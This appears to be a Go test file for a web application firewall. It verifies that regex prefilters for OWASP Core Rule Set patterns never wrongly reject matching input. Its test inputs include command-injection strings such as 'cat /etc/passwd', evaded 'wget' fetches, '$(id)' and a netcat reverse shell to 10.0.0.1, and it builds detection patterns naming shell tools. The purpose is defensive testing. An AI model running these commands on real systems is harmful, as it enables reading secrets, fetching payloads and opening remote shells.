package waf

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"io/fs"
	"net/url"
	"os"
	"path"
	"regexp"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	crstests "github.com/corazawaf/coraza-coreruleset/v4/tests"
	"gopkg.in/yaml.v3"
	"rsc.io/binaryregexp"
)

func TestNamesInvalidUTF8(t *testing.T) {
	for _, tc := range []struct {
		expr string
		want bool
	}{
		{`abc`, false},
		{`\x41\x42c`, false},
		{`[\x00-\x1f]`, false},
		{`\xc0\xae`, true},
		{`\x{c0}\x{ae}x`, true},
		{`\xe9x`, true},      // a lone Latin-1 byte
		{`é`, false},         // the UTF-8 letter itself
		{`\xc3\xa9x`, false}, // é spelt as bytes
		{`\x{41}bc`, false},
		{`ab\xff`, true},
		{`ab\xf`, false}, // the last three bytes are not read as an escape, as in Coraza
		{`\xzz1`, false},
	} {
		if got := namesInvalidUTF8(tc.expr); got != tc.want {
			t.Errorf("namesInvalidUTF8(%q) = %v, want %v", tc.expr, got, tc.want)
		}
	}
}

func TestNecessity(t *testing.T) {
	for _, tc := range []struct {
		expr   string
		minLen int
		lits   []string
		fold   bool
	}{
		{`select`, 6, []string{"select"}, false},
		{`(?i)union\s+select`, 12, []string{"select"}, true},
		{`a|bc`, 1, []string{"a", "bc"}, false},
		{`(?:foo|bar)+baz?`, 5, []string{"foo", "bar"}, false},
		{`x*`, 0, nil, false},
		{`[a-z]+\d`, 2, []string{"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}, false}, // a small class: its bytes
		{`[a-z]+\w`, 2, nil, false},                                                        // too large a class
		{`(?i)[k-l]x`, 2, []string{"x"}, true},                                             // folded: U+212A in the class
		{`[\x{ff}a]`, 1, nil, false},
		{`(?i)k`, 1, []string{"k"}, true},
		{`(?i)é`, 1, nil, false}, // folded non-ASCII: no literal
		{`a?b{2,}`, 2, []string{"bb"}, false},
		{`(?:ab){3}`, 6, []string{"ababab"}, false},
	} {
		tree, err := syntax.Parse("(?sm)"+tc.expr, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		n := newNecessity(tree)
		slices.Sort(n.lits)
		slices.Sort(tc.lits)
		if n.minLen != tc.minLen || !slices.Equal(n.lits, tc.lits) || (len(tc.lits) > 0 && n.fold != tc.fold) {
			t.Errorf("%q: minLen %d lits %q fold %v, want %d %q %v", tc.expr, n.minLen, n.lits, n.fold, tc.minLen, tc.lits, tc.fold)
		}
	}
	// The binary engine's patterns: literals as bytes, the shortest
	// match's length in bytes (a rune a byte) even without literals.
	for _, tc := range []struct {
		expr   string
		lits   []string
		minLen int
		short  string // a value the length test refuses, or ""
	}{
		{`\xac\xed|abc`, []string{"abc", "\xac\xed"}, 2, "\xac"},
		{`(?i)abc|\$x`, []string{"$x", "abc"}, 2, ""},
		{`(?i:abc)|\xac`, nil, 1, ""}, // folded and past ASCII
		{`\x{100}`, nil, 1, ""},
		{`[\x80-\xff]`, nil, 1, ""},
		// Rule 90018's: folded and past ASCII, no literals, 4 bytes at least.
		{`^(?:\xac\xed\x00\x05|rO0AB|(?i:aced0005))`, nil, 4, "841"},
		{`\xff{2,}z?`, []string{"\xff\xff"}, 2, "\xff"},
	} {
		n := newBinaryNecessity(tc.expr)
		slices.Sort(n.lits)
		if !slices.Equal(n.lits, tc.lits) || n.minLen != tc.minLen {
			t.Errorf("binary %q: lits %q minLen %d, want %q %d", tc.expr, n.lits, n.minLen, tc.lits, tc.minLen)
		}
		if tc.short != "" && n.mayMatch(tc.short) {
			t.Errorf("binary %q: %q passes", tc.expr, tc.short)
		}
		// The binary engine's shortest match is as long.
		re := binaryregexp.MustCompile(tc.expr)
		for _, in := range []string{"\xac\xed\x00\x05", "rO0AB", "ACED0005", "abc", "$x", "\xac", "\xac\xed", "\xff\xff", "\xc4\x80", "\x80"} {
			if loc := re.FindStringIndex(in); loc != nil && (loc[1]-loc[0] < n.minLen || !n.mayMatch(in)) {
				t.Errorf("binary %q matches %q (%d bytes): minLen %d", tc.expr, in, loc[1]-loc[0], n.minLen)
			}
		}
	}
	// Go's case folding maps "k" to the Kelvin sign: a folded test must
	// not refuse non-ASCII input.
	tree, _ := syntax.Parse("(?i)kill", syntax.Perl)
	if n := newNecessity(tree); !n.mayMatch("\u212aill") || !regexp.MustCompile("(?i)kill").MatchString("\u212aill") {
		t.Error("the Kelvin sign must pass a folded necessity test")
	}
	if n := newNecessity(tree); !n.mayMatch("\u017fk\u212aill") || n.mayMatch("\u00e9kil\xff\u00ecl k\u00efll") {
		t.Error("a folded necessity test must pass the runes that fold into ASCII, and only those, past ASCII")
	}
	// A set that mixes folded and exact literals is tested folded; the
	// exact ones keep their bytes past ASCII.
	tree, _ = syntax.Parse("(?i:ab)|É", syntax.Perl)
	if n := newNecessity(tree); !n.fold || !n.mayMatch("xÉx") || n.mayMatch("xéx") {
		t.Errorf("(?i:ab)|É: lits %q fold %v: want É to pass and é not", n.lits, n.fold)
	}
}

// TestRxEngines checks every @rx pattern of the rule set (CRS and moat's
// own) on inputs from CRS's regression tests and the request corpus: the
// necessity test never refuses an input Go's engine matches, and RE2 gives
// the same match and submatches as Go's engine on every valid UTF-8 input,
// long or short. Together these say moat's operator answers as Coraza's.
func TestRxEngines(t *testing.T) {
	w, err := New(Config{Paranoia: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	st := w.RegexStats()
	t.Logf("@rx patterns: %+v", st)
	if st.Patterns < 250 || st.RE2 < st.Patterns*9/10 {
		t.Errorf("stats %+v: want ≥ 250 patterns, ≥ 90%% on RE2", st)
	}
	if st.RE2+st.RE2Refused+st.Disagreed+st.Binary != st.Patterns {
		t.Errorf("stats %+v do not add up", st)
	}

	inputs := rxInputs(t)
	if testing.Short() {
		inputs = inputs[:len(inputs)/8]
	}
	t.Logf("%d inputs", len(inputs))
	var checked, skipped, bareRefused, re2Runs int
	rxCache.Range(func(k, v any) bool {
		c := v.(*rxCompiled)
		o := c.op
		for _, in := range inputs {
			checked++
			var match []int
			if o.bin != nil {
				match = o.bin.FindStringSubmatchIndex(in)
			} else {
				match = o.std.FindStringSubmatchIndex(in)
			}
			if o.need.bareRefuses(in, bytesOf(in)) {
				bareRefused++
				if match != nil {
					t.Errorf("pattern %q: the bare test refuses %q, which matches", k, in)
				}
			}
			if !o.need.mayMatch(in) {
				skipped++
				if match != nil {
					t.Errorf("pattern %q: the necessity test refuses %q, which matches", k, in)
				}
				continue
			}
			if o.re2 != nil && utf8.ValidString(in) {
				re2Runs++
				if got := o.re2.FindStringSubmatchIndex(in); !slices.Equal(got, match) {
					t.Errorf("pattern %q on %q: RE2 %v, Go %v", k, in, got, match)
				}
			}
		}
		return !t.Failed()
	})
	t.Logf("%d pattern-input pairs, %d (%.1f%%) refused by the necessity test, %d by the bare test, %d compared with RE2", checked, skipped, 100*float64(skipped)/float64(max(checked, 1)), bareRefused, re2Runs)
}

// rxInputs gathers distinct values from CRS's regression tests and the
// committed request corpus, raw, URL-decoded and lower-cased as CRS's
// transformations would see them.
func rxInputs(t *testing.T) []string {
	t.Helper()
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		if len(s) > 4096 {
			s = s[:4096]
		}
		for _, v := range []string{s, unescape(s), strings.ToLower(unescape(s))} {
			if !seen[v] {
				seen[v] = true
				out = append(out, v)
			}
		}
	}
	err := fs.WalkDir(crstests.FS, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || path.Ext(p) != ".yaml" {
			return err
		}
		data, err := fs.ReadFile(crstests.FS, p)
		if err != nil {
			return err
		}
		var f crsFile
		if yaml.Unmarshal(data, &f) != nil {
			return nil
		}
		for _, tc := range f.Tests {
			for _, st := range tc.Stages {
				if st.Input.URI != nil {
					add(*st.Input.URI)
					if u, err := url.Parse(*st.Input.URI); err == nil {
						for _, vs := range u.Query() {
							for _, v := range vs {
								add(v)
							}
						}
					}
				}
				add(st.Input.Data)
				for _, v := range st.Input.Headers {
					add(v)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open("testdata/corpus.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		var c corpusReq
		if json.Unmarshal(sc.Bytes(), &c) != nil {
			continue
		}
		add(c.Target)
		body := c.Body
		if c.BodyB64 != "" {
			if b, err := base64.StdEncoding.DecodeString(c.BodyB64); err == nil {
				body = string(b)
			}
		}
		add(body)
		for _, h := range c.Headers {
			add(h.Value)
		}
	}
	return out
}

func unescape(s string) string {
	if u, err := url.QueryUnescape(s); err == nil {
		return u
	}
	return s
}

// TestRxWhole: a pattern whose leftmost match is the whole value (CRS
// 920450's ^.*$, whose TX:0 the gate works out for every header name)
// is answered without an engine, and the answer is the engine's on
// inputs with newlines, invalid UTF-8 and nothing at all; patterns that
// stop short of the end (lazy, a newline the dot does not match, one
// character or more) are not taken for one.
func TestRxWhole(t *testing.T) {
	for pattern, want := range map[string]bool{
		"^.*$": true, "(?s)^.*$": true, `\A.*\z`: true,
		"^.*?$": false, "(?-s)^.*$": false, "^.+$": false, "^.*": false, "^a.*$": false,
	} {
		c, err := compileRx(pattern)
		if err != nil {
			t.Fatal(err)
		}
		if c.op.whole != want {
			t.Errorf("%q: whole %v, want %v", pattern, c.op.whole, want)
		}
		if !c.op.whole {
			continue
		}
		std := regexp.MustCompile("(?sm)" + pattern)
		for _, in := range []string{"", "a", "Content-Type", "a\nb", "\n", "x\r\n", "\xff\xfe", "é\x00ü"} {
			loc := std.FindStringIndex(in)
			c0, ok := c.op.capture0(in)
			if loc == nil || !ok || c0 != in[loc[0]:loc[1]] || !c.op.match(in) {
				t.Errorf("%q on %q: capture0 %q %v, match %v; Go's engine %v", pattern, in, c0, ok, c.op.match(in), loc)
			}
		}
	}
}

// TestBareNecessity: a pattern that lets quotes, backslashes and "$x"
// sit between the letters of a command (as CRS 932235 does) requires no
// literal of a plain word; on a value without those bytes its bare test
// requires the commands themselves, and refuses a word that holds none
// (bare.go). Where the pattern matches, the bare test never refuses: on
// the commands, evaded or not, and on words around them.
func TestBareNecessity(t *testing.T) {
	const ev = `["'\\]*(?:\$[a-z]*)?`
	pattern := `(?i)(?:^|[;|&\s])c` + ev + `a` + ev + `t|w` + ev + `g` + ev + `e` + ev + `t|(?:` + "`" + `|\$\()[a-z]+`
	c, err := compileRx(pattern)
	if err != nil {
		t.Fatal(err)
	}
	n := c.op.need
	if n.bare == nil {
		t.Fatalf("%s: no bare test", pattern)
	}
	for _, v := range []string{"cow and gate", "clockwork", "Mac, Windows"} {
		if !n.mayMatch(v) || !n.bareRefuses(v, bytesOf(v)) {
			t.Errorf("%q: necessity %v, bare refuses %v; want the bare test alone to refuse it", v, n.mayMatch(v), n.bareRefuses(v, bytesOf(v)))
		}
	}
	std := regexp.MustCompile("(?sm)" + pattern)
	for _, v := range []string{"cat /etc/passwd", "x;wget http://e", "c'a't x", "c\\at", "w$u\"get", "a $(id)", "`id`",
		"Ana Maria", "leave at the door", "concat", "to wget", "scat", "CAT", "c\"at", "x|cat"} {
		if std.MatchString(v) && (!n.mayMatch(v) || n.bareRefuses(v, bytesOf(v))) {
			t.Errorf("%q matches, yet a test refuses it", v)
		}
	}
	// A pattern with nothing but bare bytes to match refuses every value
	// without them; one whose bare tree is no stronger has no bare test.
	if c, _ := compileRx(`[<>]\(`); c.op.need.bare == nil || !c.op.need.bareRefuses("script", bytesOf("script")) {
		t.Error(`[<>]\(: want every value without bare bytes refused`)
	}
	if c, _ := compileRx(`(?i)union\s+select`); c.op.need.bare != nil {
		t.Error(`union\s+select: a bare test that is no stronger`)
	}
}

// TestBareWords: a pattern of command words, each followed by one of a
// few characters, whose words sit under common prefixes and evasions
// (CRS 932250, 932260). Its bare test requires a word with what must
// follow it ("chmod ", "diff"), not the followers alone, so that plain
// words with a space or a comma are refused; a value the pattern
// matches never is. The CRS rules themselves refuse the values of the
// gateway benchmark's JSON POST.
func TestBareWords(t *testing.T) {
	const ev = `["'\\]*(?:\$[a-z]*)?`
	pattern := `(?i)(?:^|[;|&\n])\s*(?:c` + ev + `h` + ev + `(?:mod|own)[\s,&|]|w` + ev + `g` + ev + `et[\s,&|]|diff|[ls]trace[\s,]|nc(?:at)?[\s,])`
	c, err := compileRx(pattern)
	if err != nil {
		t.Fatal(err)
	}
	n := c.op.need
	for _, v := range []string{"leave at the door, please", "Ana Maria", "json.comment", "I changed my mind, thanks", "wgetter", "ncat"} {
		if n.mayMatch(v) && !n.bareRefuses(v, bytesOf(v)) {
			t.Errorf("%q: neither test refuses it", v)
		}
	}
	std := regexp.MustCompile("(?sm)" + pattern)
	for _, v := range []string{"chmod 777 x", "x;wget http://e", "CHOWN,root", "diff", "differ", "strace -p 1", "ltrace\tx",
		"nc 10.0.0.1 80", "NCAT,", "c'h'mod x", "w\"$xget y", "a\nchown r"} {
		if !std.MatchString(v) {
			t.Fatalf("%q: want a value the pattern matches", v)
		}
		if !n.mayMatch(v) || n.bareRefuses(v, bytesOf(v)) {
			t.Errorf("%q matches, yet a test refuses it", v)
		}
	}

	for _, id := range []string{"932250", "932260"} {
		o := crsRx(t, id)
		for _, v := range []string{"leave at the door, please", "Ana Maria", "ana@example.com", "json.comment", "json.items.0.note", "A-100"} {
			if o.need.mayMatch(v) && !o.need.bareRefuses(v, bytesOf(v)) {
				t.Errorf("%s: %q: neither test refuses it", id, v)
			}
		}
		for _, v := range []string{"chmod 777 /tmp/x", ";wget http://e/x", "nc -e /bin/sh 10.0.0.1 80"} {
			if o.std.MatchString(v) && (!o.need.mayMatch(v) || o.need.bareRefuses(v, bytesOf(v))) {
				t.Errorf("%s: %q matches, yet a test refuses it", id, v)
			}
		}
	}
}

// crsRx is the @rx operator of CRS rule id, compiled as the WAF does.
func crsRx(t *testing.T, id string) *rxOp {
	t.Helper()
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		data, err := fs.ReadFile(coreruleset.FS, f)
		if err != nil {
			t.Fatal(err)
		}
		text := strings.ReplaceAll(string(data), "\\\n", "")
		at := strings.Index(text, `"id:`+id+`,`)
		if at < 0 {
			continue
		}
		start := strings.LastIndex(text[:at], `"@rx `)
		if start < 0 {
			t.Fatalf("rule %s: no @rx", id)
		}
		start += len(`"@rx `)
		end := strings.Index(text[start:], `" `)
		// SecRule's quoted argument: \" is a quote.
		pattern := strings.ReplaceAll(text[start:start+end], `\"`, `"`)
		c, err := compileRx(pattern)
		if err != nil {
			t.Fatalf("rule %s: %v", id, err)
		}
		return c.op
	}
	t.Fatalf("rule %s not found", id)
	return nil
}

// TestLitsMayMatchBytes: the literal test told a value's bytes answers as
// the test told nothing of them, and passes every value a
// case-insensitive pattern matches through a rune that folds into ASCII
// (the Kelvin sign, the long s), which only a value with bytes past
// ASCII holds.
func TestLitsMayMatchBytes(t *testing.T) {
	for _, pattern := range []string{`(?i)(?:kelvin|select|passwd)`, `(?i)(?:kelvin|select|passwd|union|script|onerror)`} {
		c, err := compileRx(pattern)
		if err != nil {
			t.Fatal(err)
		}
		n := c.op.need
		if !n.fold || len(n.lits) == 0 {
			t.Fatalf("%s: no case-insensitive literals", pattern)
		}
		for _, v := range []string{"\u212aelvin", "\u017felect", "pa\u017f\u017fwd", "KELVIN", "plain text", "é kelvin", "é plain", "\u212a", "sele\u212at"} {
			got := n.litsMayMatch(v, bytesOf(v))
			if want := n.litsMayMatch(v, anyBytes); got != want {
				t.Errorf("%s on %q: %v told its bytes, %v told none", pattern, v, got, want)
			}
			if c.op.std.MatchString(v) && !got {
				t.Errorf("%s on %q: the pattern matches, the literal test refuses", pattern, v)
			}
		}
	}
}
